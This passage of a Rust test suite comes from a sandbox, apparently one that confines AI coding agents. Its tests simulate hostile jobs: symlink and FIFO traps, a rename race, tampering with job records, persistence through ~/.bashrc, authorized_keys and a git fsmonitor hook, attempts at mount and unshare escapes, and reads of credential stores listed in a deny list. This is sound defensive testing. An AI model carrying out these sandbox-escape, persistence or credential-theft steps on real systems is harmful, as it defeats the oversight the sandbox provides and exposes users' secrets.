            "a sparse .gitignore of 4 GiB in an untracked directory",
            "mkdir -p u/v && echo x > u/v/f && truncate -s 4G u/v/.gitignore".into(),
        ),
        (
            // MAKE_FIFO is withheld in the worktree, but a directory holding a FIFO can be moved in
            // from TMPDIR: Landlock checks the directory moved, not what it holds (found in review).
            "a FIFO at a .gitignore, moved in inside a directory",
            "mkdir \"$TMPDIR/d\" && mkfifo \"$TMPDIR/d/.gitignore\" && mv \"$TMPDIR/d\" d && \
             echo x > d/file"
                .into(),
        ),
        (
            // gix reads the index's blob where the work tree has a link (found in review).
            "a .gitattributes blob of 256 MiB behind a link",
            "id=$(head -c 256M /dev/zero | git hash-object -w --stdin) && \
             git update-index --add --cacheinfo 100644,$id,.gitattributes && \
             ln -s README .gitattributes && touch -d 2020-01-01 README"
                .into(),
        ),
        (
            // With the job's core.ignoreCase, the walk took SRC for a tracked src (found in review).
            "a sparse .gitignore in a directory named as a tracked one but for case",
            "mkdir -p src && echo x > src/a && git add src && git commit -q -m src && \
             git config core.ignoreCase true && mkdir SRC && echo x > SRC/f && \
             truncate -s 4G SRC/.gitignore"
                .into(),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let repo = env.repo(&format!("app-{n}"));
        let script = format!(
            "echo work > work.txt && git add work.txt && git commit -q -m work && \
             mkdir -p .git/info && rm -f .git/info/exclude && {plant} && echo planted"
        );
        let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
        assert_said(&out, "planted");
        // Kept because the repository was refused before it was read, not for what a read of it
        // found.
        let reason = report["worktree"]["reason"].as_str().unwrap_or_default();
        assert!(
            reason.contains("cannot read the job's repository")
                || reason.contains("record does not match the disk"),
            "{what}: {reason}"
        );
        assert_kept_through_worktrees_and_prune(&env, &repo, &report, what);
    }
}

#[test]
fn links_to_a_fifo_that_gix_follows_neither_hang_the_jobs_end_nor_later_commands() {
    // gix opens a loose ref it looks up by name through a symlink (HEAD's branch, `refs/stash`,
    // the branch a linked worktree has checked out), and the alternates of the object directories
    // the job's alternates name. A link from one of them to a FIFO anywhere on the machine
    // stalled the job's end for the inspection's whole time bound (120 s), and each later
    // `worktrees` and `prune` as long again. Each must be refused at once and the worktree kept.
    let env = TestEnv::new();
    let fifo = someone_elses_fifo(&env);
    for (n, (what, plant)) in [
        (
            "the job's branch",
            format!(
                "rm \".git/refs/heads/$ISOLATE_BRANCH\" && ln -s \"{fifo}\" \".git/refs/heads/$ISOLATE_BRANCH\""
            ),
        ),
        ("the stash", format!("ln -s \"{fifo}\" .git/refs/stash")),
        (
            "another branch HEAD is on",
            format!("git checkout -q -b foo && rm .git/refs/heads/foo && ln -s \"{fifo}\" .git/refs/heads/foo"),
        ),
        (
            "an alternate's alternates",
            format!(
                "mkdir -p alt/info && ln -s \"{fifo}\" alt/info/alternates && \
                 echo \"$PWD/alt\" >> .git/objects/info/alternates"
            ),
        ),
        (
            "a linked worktree's branch",
            format!(
                "git worktree add -q .git/side -b side && rm .git/refs/heads/side && \
                 ln -s \"{fifo}\" .git/refs/heads/side"
            ),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let repo = env.repo(&format!("app-{n}"));
        let script = format!(
            "echo work > work.txt && git add work.txt && git commit -q -m work && {plant} && echo planted"
        );
        let pending = Pending::start(&env, &repo, &[], &script, Stdio::null());
        let out = finish(pending.child, Duration::from_secs(60));
        assert_status(&out, 0);
        assert_said(&out, "planted");
        let report = env.report(&pending.report);
        assert_kept_through_worktrees_and_prune(&env, &repo, &report, what);
    }
}

/// A job that swaps the file at `.git/<swapped>` (holding what git would write there) for a link to
/// `target` and back, without end (`renameat2` with `RENAME_EXCHANGE`, so each is always whole).
const SWAPPER: &str = r##"
import ctypes, os, subprocess, sys
swapped, target = ".git/" + sys.argv[1], sys.argv[2]
head = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
content = head + "\n"
if swapped.endswith("packed-refs"):
    content = "# pack-refs with: peeled fully-peeled sorted\n" + head + " refs/heads/packed\n"
with open(swapped, "w") as f:
    f.write(content)
os.symlink(target, ".git/swap")
libc = ctypes.CDLL(None, use_errno=True)
print("swapping", flush=True)
while libc.renameat2(-100, b".git/swap", -100, swapped.encode(), 2) == 0:
    pass
print("renameat2 failed:", ctypes.get_errno(), flush=True)
"##;

#[test]
fn a_running_job_swapping_a_ref_for_a_link_neither_hangs_nor_exhausts_a_listing() {
    // The checks made before isolate reads a job's repository see its files as they are; a job
    // still running can swap one after the check and before gix opens it. Here the job swaps a
    // loose ref, or packed-refs, for a link to a FIFO elsewhere on the machine (the open would wait
    // for a writer forever) or to /dev/zero (a read to the end would never end), thousands of
    // times a second, while `worktrees` lists it fifty times. Each listing must end at once, within
    // an address space far below what the read would take: the reads of a job's repository run
    // on a thread that may read nothing but the worktree and the project (Landlock), so an open
    // through the link fails, and a read of what was checked opens without following a link.
    let env = TestEnv::new();
    let fifo = someone_elses_fifo(&env);
    let swapper = env.path().join("swapper.py");
    fs::write(&swapper, SWAPPER).unwrap();
    let swapper = swapper.display().to_string();
    for (n, (swapped, target)) in [
        ("refs/heads/decoy", fifo.as_str()),
        ("refs/heads/decoy", "/dev/zero"),
        ("packed-refs", fifo.as_str()),
    ]
    .into_iter()
    .enumerate()
    {
        let what = format!("{swapped} swapped for a link to {target}");
        let repo = env.repo(&format!("app-{n}"));
        let out = env.isolate(
            &repo,
            [
                "run",
                "--bg",
                "--worktree",
                "--",
                "python3",
                &swapper,
                swapped,
                target,
            ],
        );
        assert_status(&out, 0);
        let id = stdout(&out).trim().to_string();
        let swapping = wait_until(Duration::from_secs(30), || {
            stdout(&env.isolate(&repo, ["logs", &id])).contains("swapping")
        });
        assert!(
            swapping,
            "{what}: {}",
            stdout(&env.isolate(&repo, ["logs", &id]))
        );
        for round in 0..50 {
            let mut cmd = env.isolate_cmd(&repo, ["worktrees", "--json"]);
            cmd.stdin(Stdio::null());
            limit_address_space(&mut cmd, 4 << 30);
            let out = finish(cmd.spawn().unwrap(), Duration::from_secs(30));
            assert_status(&out, 0);
            assert!(
                stdout(&out).contains(&id),
                "{what}, round {round}: {}",
                stdout(&out)
            );
        }
        let log = stdout(&env.isolate(&repo, ["logs", &id]));
        assert!(!log.contains("renameat2 failed"), "{what}: {log}");
        assert_status(&env.isolate(&repo, ["stop", &id]), 0);
    }
}

/// `cmd` runs with at most `bytes` of address space.
fn limit_address_space(cmd: &mut std::process::Command, bytes: u64) {
    use std::os::unix::process::CommandExt;
    // SAFETY: setrlimit is async-signal-safe and touches nothing of the parent.
    unsafe {
        cmd.pre_exec(move || {
            let limit = libc::rlimit {
                rlim_cur: bytes,
                rlim_max: bytes,
            };
            match libc::setrlimit(libc::RLIMIT_AS, &limit) {
                0 => Ok(()),
                _ => Err(std::io::Error::last_os_error()),
            }
        });
    }
}

/// The job's end kept its worktree with its work, and `worktrees` and `prune` each finish (within a
/// minute, status 0) and keep it too.
fn assert_kept_through_worktrees_and_prune(env: &TestEnv, repo: &Path, report: &Value, what: &str) {
    assert_eq!(report["worktree"]["removed"], false, "{what}: {report}");
    let reason = report["worktree"]["reason"].as_str().unwrap();
    assert!(reason.starts_with("kept:"), "{what}: {reason}");
    let wt = PathBuf::from(report["worktree"]["path"].as_str().unwrap());
    assert_eq!(fs::read_to_string(wt.join("work.txt")).unwrap(), "work\n");
    for args in [["worktrees", "--json"], ["prune", "--json"]] {
        let mut cmd = env.isolate_cmd(repo, args);
        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let out = finish(cmd.spawn().unwrap(), Duration::from_secs(60));
        assert_status(&out, 0);
    }
    assert!(
        wt.join("work.txt").exists(),
        "{what}: prune removed the work"
    );
}

// ---- isolate's own state, the home directory, and what isolate copies in ----

#[test]
fn edit_the_jobs_record_or_plant_another_job() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        "test -z \"$ISOLATE_HOME\" && echo no-isolate-home; R=\"$TMPDIR/../job.json\"; i=0; \
         while [ ! -f \"$R\" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
         test -f \"$R\" && echo record-readable; echo '{}' > \"$R\"; sed -i s/running/exited/ \"$R\"; \
         mv \"$R\" \"$TMPDIR/stolen\"; rm -f \"$R\"; ln -s /etc/passwd \"$R.tmp\"; \
         mkdir \"$TMPDIR/../../evil-1234\"; mkdir -p \"$TMPDIR/../../../worktrees/evil\"; \
         echo x > \"$TMPDIR/../../../ports/evil\"",
        || {},
    );
    assert_said(&out, "no-isolate-home");
    assert_said(&out, "record-readable");
    assert_said(&out, "Permission denied");
    // The record is the one isolate wrote at the end, the same as the report; nothing else appeared.
    let records = env.records();
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0], report);
    assert_eq!(report["state"], "exited");
    let jobs: Vec<_> = fs::read_dir(env.state.join("jobs"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(jobs, [report["id"].as_str().unwrap()], "{jobs:?}");
    assert!(!env.state.join("worktrees/evil").exists());
    assert!(!env.state.join("ports/evil").exists());
}

#[test]
fn persist_in_the_home_directory_or_the_users_git_configuration() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(env.home.join(".bashrc"), "# mine\n").unwrap();
    let home_before = Snapshot::take(&env.home);
    let gitconfig = env.path().join("gitconfig");
    let gitconfig_before = fs::read(&gitconfig).unwrap();
    let script = format!(
        "echo evil >> ~/.bashrc; echo evil > ~/.profile; mkdir -p ~/.ssh; echo key >> ~/.ssh/authorized_keys; \
         mkdir -p ~/.config/isolate/policy; echo 'extends = \"default\"' > ~/.config/isolate/policy/evil.toml; \
         echo 'setup = \"touch /tmp/pwned\"' > ~/.config/isolate/config.toml; \
         mkdir -p ~/.config/systemd/user; echo evil > ~/.config/systemd/user/evil.service; \
         git config --file '{0}' core.fsmonitor 'touch /tmp/pwned'; echo evil >> '{0}'",
        gitconfig.display()
    );
    let out = attempt_in(&env, &repo, &script);
    assert_said(&out, "Permission denied");
    home_before.assert_unchanged(&Snapshot::take(&env.home), "the home directory");
    assert_eq!(fs::read(&gitconfig).unwrap(), gitconfig_before);
}

#[test]
fn worktreeinclude_patterns_reaching_outside_the_project() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(env.path().join("secret"), "OUTSIDE-SECRET\n").unwrap();
    fs::create_dir(env.path().join("outside-dir")).unwrap();
    fs::write(env.path().join("outside-dir/leak"), "OUTSIDE-SECRET\n").unwrap();
    std::os::unix::fs::symlink(env.path().join("outside-dir"), repo.join("linkdir")).unwrap();
    std::os::unix::fs::symlink("../secret", repo.join("linkfile")).unwrap();
    fs::write(
        repo.join(".gitignore"),
        "target/\n.env\nlinkdir\nlinkfile\n",
    )
    .unwrap();
    fs::write(
        repo.join(".worktreeinclude"),
        "../secret\n../outside-dir/\n/../secret\n/etc/passwd\n../*\n/*\nlinkdir/\nlinkdir/*\n\
         linkdir/**\nlinkfile\n.env\n**\n",
    )
    .unwrap();
    env.git(&repo, ["add", ".gitignore", ".worktreeinclude"]);
    env.git(&repo, ["commit", "-q", "-m", "include"]);
    fs::write(repo.join(".env"), "TOKEN=1\n").unwrap();
    let out = attempt_in(
        &env,
        &repo,
        "cat .env; test -e secret || echo no-secret; test -e passwd || test -e etc/passwd || echo no-passwd; \
         test ! -e linkdir -o -L linkdir && echo linkdir-not-a-copy; \
         test ! -e linkfile -o -L linkfile && echo linkfile-not-a-copy; \
         if grep -rqs OUTSIDE-SECRET .; then echo COPIED; else echo nothing-copied; fi",
    );
    let text = stdout(&out);
    for said in [
        "TOKEN=1",
        "no-secret",
        "no-passwd",
        "linkdir-not-a-copy",
        "linkfile-not-a-copy",
        "nothing-copied",
    ] {
        assert!(text.contains(said), "{said}: {text}");
    }
}

#[test]
fn mount_unshare_and_chroot() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let prog = program(
        &env,
        "ns.py",
        "import ctypes, errno, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         repo, tmp = sys.argv[1].encode(), os.environ['TMPDIR'].encode()\n\
         def say(what, call):\n\
         \x20   ctypes.set_errno(0)\n\
         \x20   rc = call()\n\
         \x20   print(what, 'succeeded' if rc == 0 else errno.errorcode.get(ctypes.get_errno(), '?'))\n\
         def write(what):\n\
         \x20   try:\n\
         \x20       open(sys.argv[1] + '/README', 'a').write('evil')\n\
         \x20       print(what, 'WROTE')\n\
         \x20   except OSError as e:\n\
         \x20       print(what, errno.errorcode[e.errno])\n\
         say('mount-tmpfs', lambda: libc.mount(b'none', repo, b'tmpfs', 0, None))\n\
         say('mount-bind', lambda: libc.mount(tmp, repo, None, 4096, None))\n\
         say('chroot', lambda: libc.chroot(b'/'))\n\
         write('write')\n\
         say('unshare', lambda: libc.unshare(0x10000000 | 0x00020000))\n\
         say('userns-mount-tmpfs', lambda: libc.mount(b'none', repo, b'tmpfs', 0, None))\n\
         say('userns-mount-bind', lambda: libc.mount(tmp, repo + b'/src', None, 4096, None))\n\
         say('userns-umount', lambda: libc.umount2(b'/proc', 2))\n\
         write('userns-write')\n",
    );
    let script = format!(
        "mount -t tmpfs none \"$ISOLATE_REPO\"; unshare -Urm sh -c 'echo evil > \"$ISOLATE_REPO/README\"'; \
         chroot / true; python3 {prog} \"$ISOLATE_REPO\""
    );
    let out = attempt_in(&env, &repo, &script);
    let text = stdout(&out);
    for said in [
        "mount-tmpfs EPERM",
        "mount-bind EPERM",
        "chroot EPERM",
        "write EACCES",
        "userns-mount-tmpfs EPERM",
        "userns-mount-bind EPERM",
    ] {
        assert!(text.contains(said), "{said}: {text}");
    }
    assert!(
        !text.contains("mount-tmpfs succeeded")
            && !text.contains("mount-bind succeeded")
            && !text.contains("WROTE"),
        "{text}"
    );
}

/// A link `shared/NAME` to `target` in the test's directory, owned by another user (uid 12345), in
/// a directory every user may write (as /tmp is). Making a link another user owns takes root (CI
/// runs as root): `None`, said, otherwise.
fn another_users_link(env: &TestEnv, name: &str, target: &Path) -> Option<PathBuf> {
    if !nix::unistd::getuid().is_root() {
        eprintln!("skipped: needs root to make a link owned by another user");
        return None;
    }
    let shared = env.path().join("shared");
    fs::create_dir_all(&shared).unwrap();
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
    let planted = shared.join(name);
    std::os::unix::fs::symlink(target, &planted).unwrap();
    std::os::unix::fs::lchown(&planted, Some(12345), Some(12345)).unwrap();
    Some(planted)
}

#[test]
fn another_users_link_where_a_profile_writes_aims_no_rule() {
    // Another user plants a link where a profile grants a fixed path in a shared directory (Codex's
    // /tmp/codex-daemon-<uid>), aimed at the home directory; isolate refuses to follow it.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let Some(planted) = another_users_link(&env, "daemon-dir", &env.home) else {
        return;
    };
    let file = env.file(
        "daemon.toml",
        &format!(
            "extends = \"default\"\n[filesystem]\nwrite = [{{ path = \"{}\", missing = \"create\" }}]\n",
            planted.display()
        ),
    );
    fs::write(env.home.join(".bashrc"), "original\n").unwrap();
    let out = env.isolate(
        &repo,
        [
            "run",
            "--worktree",
            "--policy",
            file.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            "echo evil > \"$HOME/.bashrc\"",
        ],
    );
    assert_status(&out, 125);
    assert_said(&out, "symbolic link of another user (uid 12345)");
    assert_eq!(
        fs::read_to_string(env.home.join(".bashrc")).unwrap(),
        "original\n"
    );
    // The user's own link is theirs to aim.
    fs::remove_file(&planted).unwrap();
    let mine = env.path().join("mine");
    fs::create_dir(&mine).unwrap();
    std::os::unix::fs::symlink(&mine, &planted).unwrap();
    let out = env.isolate(
        &repo,
        [
            "run",
            "--worktree",
            "--policy",
            file.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &format!("echo ok > {}/f", planted.display()),
        ],
    );
    assert_status(&out, 0);
    assert!(mine.join("f").exists());
}

/// The credential stores every profile denies, as `policy show` lists them (`~/…`).
fn credential_stores(env: &TestEnv) -> Vec<String> {
    let out = env.isolate(env.path(), ["policy", "show", "default", "--json"]);
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    shown["paths"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["access"] == "deny")
        .map(|p| p["written"].as_str().unwrap().to_string())
        // The same stores under the user's home of the password database, when HOME is elsewhere.
        .filter(|p| p.starts_with("~/"))
        .collect()
}

/// The policy's resolution answers "missing" for a store from its directory's listing once it has
/// looked up a few names there: a store that is a link, in a home where every store before it is
/// missing, must still be found, and denied where it points, not at the link alone.
#[test]
fn a_store_that_is_a_link_among_missing_stores_is_denied_where_it_points() {
    let env = TestEnv::new();
    let outside = env.path().join("vault");
    fs::create_dir_all(outside.join("gh")).unwrap();
    fs::write(outside.join("pgpass"), "SECRET-pg\n").unwrap();
    fs::write(outside.join("gh/hosts.yml"), "SECRET-gh\n").unwrap();
    fs::write(outside.join("open.txt"), "open-vault\n").unwrap();
    // Late in their directories' lists: the home's and ~/.config's earlier stores are missing.
    fs::create_dir_all(env.home.join(".config")).unwrap();
    std::os::unix::fs::symlink(outside.join("pgpass"), env.home.join(".pgpass")).unwrap();
    std::os::unix::fs::symlink(outside.join("gh"), env.home.join(".config/gh")).unwrap();
    let repo = env.repo("app");
    let script = format!(
        "cat ~/.pgpass ~/.config/gh/hosts.yml '{vault}/pgpass' '{vault}/gh/hosts.yml' 2>&1; \
         cat '{vault}/open.txt'",
        vault = outside.display()
    );
    let (out, _) = env.policy_job(&repo, &[], "default", &script);
    let text = stdout(&out);
    assert!(!text.contains("SECRET-"), "{text}");
    assert!(
        text.contains("open-vault"),
        "the vault's other files stay readable: {text}"
    );
    assert_eq!(
        fs::read_to_string(outside.join("pgpass")).unwrap(),
        "SECRET-pg\n"
    );
}

#[test]
fn credential_stores_are_unreadable_under_every_profile_and_their_siblings_stay_readable() {
    let env = TestEnv::new();
    let stores = credential_stores(&env);
    assert!(stores.len() > 40, "{stores:?}");
    for must in [
        "~/.ssh",
        "~/.aws",
        "~/.docker/config.json",
        "~/.netrc",
        "~/.bash_history",
        "~/.cache/huggingface/token",
        "~/.config/sops/age/keys.txt",
        "~/.pulumi/credentials.json",
        "~/.kaggle/kaggle.json",
        "~/.local/share/atuin",
        "~/.docker/key.pem",
        "~/.minikube",
        "~/.tsh",
        "~/.subversion/auth",
        "~/.cloudflared",
        "~/.android/adbkey",
    ] {
        assert!(stores.iter().any(|s| s == must), "{must} is not denied");
    }
    // Each store made for real, a directory holding a key or a file, with a sibling beside it.
    let mut script = String::new();
    for (i, store) in stores.iter().enumerate() {
        let rel = store.strip_prefix("~/").unwrap();
        let path = env.home.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let secret = if i % 2 == 0 {
            fs::create_dir_all(&path).unwrap();
            path.join("key")
        } else {
            path.clone()
        };
        fs::write(&secret, format!("SECRET-{i}\n")).unwrap();
        // (Not named after the store: a history's would be named like a history too.)
        let sibling = path.with_file_name(format!("sibling-{i}"));
        fs::write(&sibling, format!("open-{i}\n")).unwrap();
        script.push_str(&format!(
            "cat '{}' 2>/dev/null; cat '{}'; ",
            secret.display(),
            sibling.display()
        ));
    }
    script.push_str("ls ~ >/dev/null && echo listed");
    let repo = env.repo("app");
    // An agent's profile writes (so reads) its own state, its login included.
    let own_login = |profile: &str| -> &[&str] {
        match profile {
            "claude-code" => &["~/.claude"],
            "codex" => &["~/.codex"],
            "gemini" => &["~/.gemini"],
            "opencode" => &[
                "~/.config/opencode",
                "~/.local/share/opencode",
                "~/.local/state/opencode",
            ],
            "aider" => &[
                "~/.aider",
                "~/.aider.conf.yml",
                "~/.aider.model.settings.yml",
                "~/.aider.model.metadata.json",
            ],
            _ => &[],
        }
    };
    for profile in [
        "default",
        "offline",
        "claude-code",
        "codex",
        "aider",
        "opencode",
        "gemini",
    ] {
        let (out, _) = env.policy_job(&repo, &[], profile, &script);
        let text = stdout(&out);
        for (i, store) in stores.iter().enumerate() {
            if own_login(profile).contains(&store.as_str()) {
                continue;
            }
            assert!(
                !text.contains(&format!("SECRET-{i}\n")),
                "{profile} read {store}: {text}"
            );
        }
        for i in 0..stores.len() {
            assert!(
                text.contains(&format!("open-{i}\n")),
                "{profile}: sibling {i} unreadable: {text}"
            );
        }
        assert!(text.contains("listed"), "{profile}: {text}");
    }
    // doctor names the rule, and which stores exist here.
    let out = env.isolate(env.path(), ["doctor", "--json"]);
    let doctor: Value = serde_json::from_slice(&out.stdout).unwrap();
    let present = doctor["credentials"]["present"].to_string();
    assert!(
        present.contains("~/.ssh") && present.contains("~/.netrc"),
        "{present}"
    );
    // strict reads none of them either (nor their siblings: it does not read the home directory).
    let (out, _) = env.policy_job(&repo, &[], "strict", &script);
    assert!(!stdout(&out).contains("SECRET-"), "{}", stdout(&out));

    // An agent's own login is readable by its profile only.
    let own = [
        ("claude-code", "~/.claude/.credentials.json"),
        ("codex", "~/.codex/auth.json"),
        ("gemini", "~/.gemini/oauth_creds.json"),
        ("opencode", "~/.local/share/opencode/auth.json"),
    ];
    for (profile, login) in own {
        let path = env.home.join(login.strip_prefix("~/").unwrap());
        if path.is_dir() {
            fs::remove_dir_all(&path).unwrap();
        }
        // The agent's whole state is a store: planted above as a file or a directory.
        let parent = path.parent().unwrap();
        if parent.is_file() {
            fs::remove_file(parent).unwrap();
        }
        fs::create_dir_all(parent).unwrap();
        fs::write(&path, "LOGIN\n").unwrap();
        let read = format!("cat '{}' 2>/dev/null || echo refused", path.display());
        let (out, _) = env.policy_job(&repo, &[], profile, &read);
        assert_eq!(
            stdout(&out),
            "LOGIN\n",
            "{profile} cannot read its own {login}"
        );
        for other in ["default", "codex", "claude-code"] {
            if other == profile {
                continue;
            }
            let (out, _) = env.policy_job(&repo, &[], other, &read);
            assert_eq!(stdout(&out), "refused\n", "{other} read {login}");
        }
    }
}

#[test]
fn a_variable_in_a_profiles_write_rule_never_opens_home_or_the_project() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let git_dir = repo.join(".git");
    for (var, value) in [
        ("CODEX_HOME", git_dir.to_str().unwrap()),
        ("CODEX_HOME", repo.to_str().unwrap()),
        ("CODEX_HOME", env.home.to_str().unwrap()),
    ] {
        let out = env.isolate_with(
            &repo,
            &[(var, value)],
            &[
                "run",
                "--worktree",
                "--policy",
                "codex",
                "--",
                "sh",
                "-c",
                "echo planted >> \"$CODEX_HOME/config\"",
            ],
        );
        assert_status(&out, 125);
        assert_said(&out, "no policy makes that writable");
    }
    assert!(
        !git_dir.join("config").exists()
            || !fs::read_to_string(git_dir.join("config"))
                .unwrap()
                .contains("planted")
    );
    assert!(env.worktree_dirs().is_empty());
    // An empty value is as if unset.
    let out = env.isolate_with(
        &repo,
        &[("CLAUDE_CONFIG_DIR", "")],
        &["run", "--policy", "claude-code", "--", "true"],
    );
    assert_status(&out, 0);
}

#[test]
fn a_fifo_given_as_the_command_never_hangs_isolate() {
    let env = TestEnv::new();
    let dir = env.path().join("fifos");
    fs::create_dir(&dir).unwrap();
    for name in ["aider", "tool"] {
        let fifo = dir.join(name);
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o755)).unwrap();
        fs::set_permissions(&fifo, fs::Permissions::from_mode(0o755)).unwrap();
        // Bounded by the test's own limit: a hang fails it.
        let out = env.isolate(env.path(), ["run", "--", fifo.to_str().unwrap()]);
        assert_status(&out, 126);
    }
}

#[test]
fn under_an_allowlist_nothing_listens_beyond_loopback() {
    // A server on every address would let anyone on the network in, past the proxy. (In the
    // namespaces tier every address of the job's is its own loopback: ordinary.rs.)
    let env = TestEnv::landlock_only();
    let probe = env.probe(
        "listen.py",
        "port = int(os.environ['ISOLATE_PORT'])\n\
         def serve(host, family=socket.AF_INET):\n\
         \x20   s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         \x20   s.bind((host, port)); s.listen(1); s.close()\n\
         attempt('any', lambda: serve('0.0.0.0'))\n\
         attempt('any6', lambda: serve('::', socket.AF_INET6))\n\
         attempt('loopback', lambda: serve('127.0.0.1'))\n\
         attempt('loopback6', lambda: serve('::1', socket.AF_INET6))\n",
    );
    let (out, _) = env.policy_job(env.path(), &[], "claude-code", &format!("python3 {probe}"));
    assert_eq!(
        stdout(&out),
        "any: EACCES\nany6: EACCES\nloopback: ok\nloopback6: ok\n",
        "{}",
        stderr(&out)
    );
    // The open profile listens where it likes.
    let (out, _) = env.policy_job(env.path(), &[], "default", &format!("python3 {probe}"));
    assert!(stdout(&out).starts_with("any: ok\n"), "{}", stdout(&out));
}

#[test]
fn under_an_allowlist_a_port_of_the_jobs_block_someone_else_listens_on_is_out_of_reach() {
    // In the Landlock-only tier the broker refuses it (EACCES, the proxy 403); in the namespaces
    // tier the job's loopback is its own, where nobody else listens (ECONNREFUSED, the proxy's
    // connect there fails: 502). Either way the user's server is never reached.
    for env in [TestEnv::landlock_only(), TestEnv::new()] {
        a_port_of_the_block_someone_else_listens_on(env);
    }
}

fn a_port_of_the_block_someone_else_listens_on(env: TestEnv) {
    let landlock = env.tier_is_landlock();
    // The block in ISOLATE_PORT is the job's by its lock, not in the kernel: a server of the
    // user's (or another user's) that starts on one of its ports after the block was drawn, on
    // either family, is still someone else's, directly or through the proxy. The job's own server
    // there stays reachable.
    let go = env.path().join("go");
    let probe = env.probe(
        "block.py",
        &format!(
            "port = int(os.environ['ISOLATE_PORT'])\n\
             own = socket.socket(); own.bind(('127.0.0.1', port)); own.listen(1)\n\
             print('port', port, flush=True)\n\
             while not os.path.exists('{}'): time.sleep(0.05)\n\
             def to(host, p, family=socket.AF_INET):\n\
             \x20   c = socket.socket(family); c.settimeout(5); c.connect((host, p)); c.close()\n\
             attempt('own', lambda: to('127.0.0.1', port))\n\
             attempt('user4', lambda: to('127.0.0.1', port + 5))\n\
             attempt('user6', lambda: to('::1', port + 3, socket.AF_INET6))\n\
             import urllib.request, urllib.error\n\
             try:\n\
             \x20   urllib.request.urlopen(f'http://localhost:{{port + 5}}/', timeout=5)\n\
             \x20   print('proxied: ok', flush=True)\n\
             except urllib.error.HTTPError as e:\n\
             \x20   print('proxied:', e.code, flush=True)\n",
            go.display()
        ),
    );
    let mut child = env
        .isolate_cmd(
            env.path(),
            [
                "run",
                "-q",
                "--policy",
                "claude-code",
                "--",
                "python3",
                &probe,
            ],
        )
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    use std::io::BufRead;
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    let port: u16 = first.strip_prefix("port ").unwrap().parse().unwrap();
    let user4 = std::net::TcpListener::bind(("127.0.0.1", port + 5)).unwrap();
    let user6 = std::net::TcpListener::bind(("::1", port + 3)).ok();
    fs::write(&go, "").unwrap();
    let said: Vec<String> = lines.map(Result::unwrap).collect();
    let out = finish(child, LIMIT);
    assert_status(&out, 0);
    let (refused, proxied) = match landlock {
        true => ("EACCES", "proxied: 403"),
        false => ("ECONNREFUSED", "proxied: 502"),
    };
    assert!(said.contains(&"own: ok".to_string()), "{said:?}");
    assert!(said.contains(&format!("user4: {refused}")), "{said:?}");
    assert!(said.contains(&proxied.to_string()), "{said:?}");
    if user6.is_some() {
        assert!(said.contains(&format!("user6: {refused}")), "{said:?}");
    }
    for listener in [Some(&user4), user6.as_ref()].into_iter().flatten() {
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_err(), "the user's server was reached");
    }
}

#[test]
fn a_store_made_while_the_job_runs_stays_unreadable_to_it() {
    // `docker login` in another terminal while the job runs: ~/.docker existed, config.json not.
    let env = TestEnv::new();
    fs::create_dir_all(env.home.join(".docker")).unwrap();
    fs::write(env.home.join(".docker/other.json"), "open\n").unwrap();
    let go = env.path().join("go");
    let script = format!(
        "while [ ! -e '{}' ]; do sleep 0.05; done; cat ~/.docker/other.json; cat ~/.docker/config.json 2>/dev/null || echo refused",
        go.display()
    );
    let child = env
        .isolate_cmd(env.path(), ["run", "-q", "--", "sh", "-c", &script])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    fs::write(
        env.home.join(".docker/config.json"),
        "{\"auths\":\"SECRET\"}\n",
    )
    .unwrap();
    fs::write(&go, "").unwrap();
    let out = finish(child, LIMIT);
    assert_eq!(stdout(&out), "open\nrefused\n", "{}", stderr(&out));
}

/// A job commits `config -> DIR` where the project has a `config/` directory of included files;
/// a user continues its branch (`--base isolate/<id>`). The include copy writes beneath the
/// worktree only, never through a link: the files are not copied, the start line says so, and the
/// link's target (a directory outside, or the project's own `.git/info`) is untouched.
#[test]
fn an_include_copy_never_follows_a_link_the_job_committed() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(repo.join(".gitignore"), "config/local.toml\n.env\n").unwrap();
    fs::write(repo.join(".worktreeinclude"), "config/local.toml\n.env\n").unwrap();
    env.git(&repo, ["add", ".gitignore", ".worktreeinclude"]);
    env.git(&repo, ["commit", "-q", "-m", "include"]);
    fs::create_dir(repo.join("config")).unwrap();
    fs::write(
        repo.join("config/local.toml"),
        "token = \"PROJECT-SECRET\"\n",
    )
    .unwrap();
    let outside = env.path().join("anywhere");
    fs::create_dir(&outside).unwrap();
    let info = repo.join(".git/info");
    for target in [
        outside.display().to_string(),
        "\"$ISOLATE_REPO/.git/info\"".to_string(),
    ] {
        let info_before = Snapshot::take(&info);
        let outside_before = Snapshot::take(&outside);
        let (out, report) = env.worktree_job(
            &repo,
            &[],
            &format!(
                "rm -rf config && ln -s {target} config && git add config && git commit -q -m link"
            ),
        );
        assert_status(&out, 0);
        let branch = report["worktree"]["branch"].as_str().unwrap().to_string();
